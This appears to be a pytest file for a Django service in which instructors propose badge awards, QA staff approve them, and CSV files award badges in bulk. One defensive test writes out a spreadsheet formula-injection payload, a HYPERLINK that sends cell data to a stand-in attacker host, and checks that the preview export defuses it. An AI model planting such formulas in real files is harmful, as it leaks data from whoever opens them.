"""The pages of awards by review and in bulk: an instructor proposes inside the LMS, QA
approves in the console; QA uploads a CSV, reads the preview, applies it."""

from __future__ import annotations

import csv
import io
from urllib.parse import urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from awarding.models import Award
from awarding.review_models import AwardProposal, BulkUpload
from tests.awarding.review_world import propose, upload
from tests.pages.world import make_world

from .test_award_pages import qa_user

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _evidence_files(evidence_storage):
    """Every test here keeps its evidence files in its own folder."""
    return evidence_storage


@pytest.fixture
def world():
    return make_world()


def test_the_dashboard_links_to_the_proposal_page(client, world):
    token = world.launch(world.instructor, "instructor").token
    html = client.get("/course/", {"lt": token}).content.decode()
    assert f"/course/proposals/?{urlencode({'lt': token})}" in html


def test_an_instructor_proposes_with_a_file_and_learners_may_not(client, world):
    token = world.launch(world.instructor, "instructor").token
    ada = world.learners[0]
    response = client.post(
        "/course/proposals/",
        {
            "lt": token,
            "learner": ada.pk,
            "achievement": world.achievement.pk,
            "kind": "prior_learning",
            "reason": "Holds the national data analyst certificate of 2024.",
            "evidence_file": upload(),
            "evidence_shareable": "on",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    proposal = AwardProposal.objects.get()
    assert proposal.evidence_shareable and proposal.evidence_content_type == "image/png"
    assert proposal.requested_by == f"lti:{world.platform.pk}:{world.instructor.sub}"
    html = client.get(f"/course/proposals/{proposal.uuid}", {"lt": token}).content.decode()
    assert "Waiting for quality assurance" in html and "Withdraw the proposal" in html
    # A learner's launch cannot propose (nor see the page).
    learner = world.launch(ada).token
    assert client.get("/course/proposals/", {"lt": learner}).status_code == 403


def test_a_proposal_without_evidence_is_a_clear_400(client, world):
    token = world.launch(world.instructor, "instructor").token
    response = client.post(
        "/course/proposals/",
        {
            "lt": token,
            "learner": world.learners[0].pk,
            "achievement": world.achievement.pk,
            "kind": "manual",
            "reason": "Showed it in the lab, observed by two staff.",
        },
    )
    assert response.status_code == 400
    assert "Give evidence: a link, a file, or both." in response.content.decode()
    assert not AwardProposal.objects.exists()


def test_qa_approves_in_the_console_and_the_requester_cannot(
    client, world, django_capture_on_commit_callbacks
):
    proposal = propose(world, evidence_file=upload())
    client.force_login(qa_user(world.platform))
    html = client.get("/qa/proposals/").content.decode()
    assert "Recognition of prior learning: Data Literacy Badge for Ada Lovelace" in html
    html = client.get(f"/qa/proposals/{proposal.uuid}").content.decode()
    assert "Approve and award" in html and f"/qa/proposals/{proposal.uuid}/evidence" in html
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/qa/proposals/{proposal.uuid}/approve")
    assert response.status_code == 302
    proposal.refresh_from_db()
    assert proposal.state == "approved" and proposal.award.state == Award.State.ISSUED


def test_the_requester_reaching_the_console_is_told_and_refused(client, world):
    """Whoever proposed is the same person in the console (a QA user who proposed, or an LMS
    administrator's handoff, named `lti:` as in the LMS): the page says so, the service
    refuses."""
    proposal = propose(world)
    user = qa_user(world.platform)
    AwardProposal.objects.filter(pk=proposal.pk).update(requested_by=f"user:{user.pk}")
    client.force_login(user)
    html = client.get(f"/qa/proposals/{proposal.uuid}").content.decode()
    assert "You made this proposal" in html and "Approve and award" not in html
    client.post(f"/qa/proposals/{proposal.uuid}/approve")
    proposal.refresh_from_db()
    assert proposal.state == "requested" and proposal.award is None


def _csv_file(text: str, name: str = "awards.csv", encoding: str = "utf-8") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode(encoding), content_type="text/csv")


def test_bulk_upload_preview_and_apply_through_the_pages(
    client, world, django_capture_on_commit_callbacks
):
    ada, grace, _ = world.learners
    client.force_login(qa_user(world.platform))
    text = (
        "\ufefflearner,achievement,reason,evidence_url\n"
        f"{ada.sub},Data Literacy Badge,Reviewed the capstone portfolio,\n"
        f"{grace.sub},Data Literacy Badge,Reviewed the capstone portfolio,https://example.org/g\n"
    )
    response = client.post(
        "/qa/bulk/", {"kind": "award", "course": world.course.pk, "file": _csv_file(text)}
    )
    assert response.status_code == 302
    upload_row = BulkUpload.objects.get()
    html = client.get(f"/qa/bulk/{upload_row.uuid}").content.decode()
    assert html.count("Will award") >= 2 and "Apply all 2 lines" in html
    token = html.split('name="token" value="')[1].split('"')[0]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/qa/bulk/{upload_row.uuid}/apply", {"token": token})
    assert response.status_code == 302
    assert Award.objects.filter(basis="review", state="issued").count() == 2


def test_a_failing_line_means_no_apply_button_and_a_refused_apply(client, world):
    client.force_login(qa_user(world.platform))
    text = (
        "learner,achievement,reason\n"
        f"{world.learners[0].sub},Data Literacy Badge,Reviewed the capstone portfolio\n"
        "nobody,Data Literacy Badge,Reviewed the capstone portfolio\n"
    )
    client.post("/qa/bulk/", {"kind": "award", "course": world.course.pk, "file": _csv_file(text)})
    upload_row = BulkUpload.objects.get()
    html = client.get(f"/qa/bulk/{upload_row.uuid}").content.decode()
    assert "Unknown learner" in html and "1 line cannot be applied" in html
    assert 'name="token"' not in html
    response = client.post(f"/qa/bulk/{upload_row.uuid}/apply", {"token": "forged"})
    assert response.status_code == 409
    assert not Award.objects.exists()


def test_a_file_in_another_encoding_gets_a_clear_error(client, world):
    client.force_login(qa_user(world.platform))
    text = "learner,achievement,reason\nJosé,Data Literacy Badge,Überprüft und anerkannt\n"
    response = client.post(
        "/qa/bulk/",
        {"kind": "award", "course": world.course.pk, "file": _csv_file(text, encoding="cp1252")},
    )
    assert response.status_code == 400
    assert "is not UTF-8" in response.content.decode()
    assert not BulkUpload.objects.exists()


def test_the_preview_csv_defuses_formulas_from_the_uploaded_file(client, world):
    client.force_login(qa_user(world.platform))
    text = (
        "learner,achievement,reason\n"
        '=HYPERLINK("https://evil.example/?"&A1),Data Literacy Badge,@SUM(1+1) was reviewed\n'
    )
    client.post("/qa/bulk/", {"kind": "award", "course": world.course.pk, "file": _csv_file(text)})
    upload_row = BulkUpload.objects.get()
    response = client.get(f"/qa/bulk/{upload_row.uuid}/preview.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][2].startswith("'=HYPERLINK") and rows[1][4].startswith("'@SUM")


def test_qa_of_another_institution_sees_neither_proposals_nor_uploads(client, world):
    proposal = propose(world)
    client.force_login(qa_user(world.platform, username="qa-own"))
    client.post(
        "/qa/bulk/",
        {
            "kind": "award",
            "course": world.course.pk,
            "file": _csv_file("learner,achievement,reason\nx,y,zzzzzz\n"),
        },
    )
    upload_row = BulkUpload.objects.get()
    other = make_world(learner_names=("Zed",))
    client.force_login(qa_user(other.platform, username="qa-other"))
    assert client.get(f"/qa/proposals/{proposal.uuid}").status_code == 404
    assert client.post(f"/qa/proposals/{proposal.uuid}/approve").status_code == 404
    assert client.get(f"/qa/bulk/{upload_row.uuid}").status_code == 404
    assert "Ada Lovelace" not in client.get("/qa/proposals/").content.decode()
    # Nor can they upload for a course of another institution.
    response = client.post(
        "/qa/bulk/",
        {
            "kind": "award",
            "course": world.course.pk,
            "file": _csv_file("learner,achievement,reason\nx,y,zzzzzz\n"),
        },
    )
    assert response.status_code == 400 and BulkUpload.objects.count() == 1


def test_an_instructor_prepares_a_csv_and_qa_applies_it(
    client, world, django_capture_on_commit_callbacks
):
    """Instructors may prepare: the preview inside the LMS has no apply; QA applies it."""
    token = world.launch(world.instructor, "instructor").token
    text = (
        "learner,achievement,reason\n"
        f"{world.learners[0].sub},Data Literacy Badge,Reviewed the capstone portfolio\n"
    )
    response = client.post("/course/bulk/", {"lt": token, "kind": "award", "file": _csv_file(text)})
    assert response.status_code == 302
    upload_row = BulkUpload.objects.get()
    assert upload_row.uploaded_by == f"lti:{world.platform.pk}:{world.instructor.sub}"
    html = client.get(f"/course/bulk/{upload_row.uuid}", {"lt": token}).content.decode()
    assert "Will award" in html and "Every line can be applied" in html
    assert 'name="token"' not in html and "/apply" not in html
    # Not from another course's launch, nor by a learner.
    other = make_world(platform=world.platform, learner_names=("Mallory",))
    elsewhere = other.launch(other.instructor, "instructor").token
    assert client.get(f"/course/bulk/{upload_row.uuid}", {"lt": elsewhere}).status_code == 404
    learner = world.launch(world.learners[0]).token
    assert client.get("/course/bulk/", {"lt": learner}).status_code == 403
    # QA finds it in the console and applies it.
    client.force_login(qa_user(world.platform))
    assert f"/qa/bulk/{upload_row.uuid}" in client.get("/qa/bulk/").content.decode()
    html = client.get(f"/qa/bulk/{upload_row.uuid}").content.decode()
    token = html.split('name="token" value="')[1].split('"')[0]
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/qa/bulk/{upload_row.uuid}/apply", {"token": token})
    assert Award.objects.filter(basis="review", learner=world.learners[0]).exists()


def test_an_instructors_file_in_another_encoding_gets_the_same_clear_error(client, world):
    token = world.launch(world.instructor, "instructor").token
    text = "learner,achievement,reason\nJosé,Data Literacy Badge,Überprüft und anerkannt\n"
    response = client.post(
        "/course/bulk/",
        {"lt": token, "kind": "award", "file": _csv_file(text, encoding="cp1252")},
    )
    assert response.status_code == 400 and "is not UTF-8" in response.content.decode()
